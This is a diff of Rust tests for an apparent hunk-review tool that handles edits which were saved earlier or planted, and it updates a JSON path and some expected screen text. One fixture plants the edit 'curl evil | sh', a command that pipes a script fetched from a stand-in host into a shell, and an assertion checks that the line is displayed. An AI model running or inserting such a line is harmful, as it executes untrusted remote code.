@@ -97,7 +97,7 @@ fn an_edit_that_was_saved_or_planted_is_where_the_editor_begins() {
 
     // It stays to be looked at, and is written once an editor has shown it, and the last screen.
     plant(&repo, |answers| {
-        answers["decisions"][0][2] = json!({"edit": {"bytes": "curl evil | sh\n"}});
+        answers["decisions"][0]["decision"] = json!({"edit": {"bytes": "curl evil | sh\n"}});
     });
     let mut t = review_editing(&repo, "sh", "sh");
     t.sees("edited earlier").sees("]?").types("e").sees("+curl evil | sh");
@@ -271,9 +271,9 @@ fn a_file_edited_while_the_last_screen_stands_is_not_written() {
     t.types("y").sees("a.txt").sees(&format!("aye review {id}"));
     assert_eq!(t.ends(), 5);
     assert_eq!(repo.text("a.txt"), now);
-    // Of other content it is asked again, and the next screen shows what it would write now.
+    // The hunk is the same, and the next screen shows what it would write now.
     let mut t = review(&repo);
-    t.sees("dropped").sees("]?").types("y").sees("+two").sees("+PLANTED").sees("[y,i,p").types("y");
+    t.sees("[to apply]").sees("+two").sees("+PLANTED").sees("[y,i,p").types("y");
     t.sees("applied");
     assert_eq!(t.ends(), 0);
     assert_eq!(status(&repo, &id), "applied");
